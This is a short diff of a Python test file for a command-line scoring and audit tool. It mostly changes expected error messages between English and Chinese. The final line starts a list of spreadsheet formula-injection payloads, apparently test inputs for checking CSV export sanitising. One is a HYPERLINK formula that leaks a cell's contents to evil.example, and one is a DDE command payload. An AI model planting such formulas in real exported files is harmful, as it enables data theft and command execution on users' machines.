@@ -217,7 +217,7 @@ def test_depth_limit_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPat
     assert "max_depth" not in err  # refused for the unknown field only
     monkeypatch.setenv("PERFRULES_MAX_DEPTH", "many")
     code, _, err = run(capsys, "score", str(path))
-    assert code == 2 and "PERFRULES_MAX_DEPTH is not a positive whole number" in err
+    assert code == 2 and "PERFRULES_MAX_DEPTH 不是正整数" in err
 
 
 @row("json-lone-surrogate")
@@ -231,7 +231,7 @@ def test_lone_surrogate_in_json(tmp_path: Path, capsys: pytest.CaptureFixture[st
     assert code == 2 and "孤立的代理码位" in err and "'\\ud800标题'" in err
     code, _, _ = run(capsys, "audit", str(path), "-o", str(tmp_path / "out") + "/")
     assert code == 2
-    assert "孤立的代理码位" in (tmp_path / "out" / "summary.csv").read_text("utf-8-sig")
+    assert "lone surrogate" in (tmp_path / "out" / "summary.csv").read_text("utf-8-sig")
 
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0",
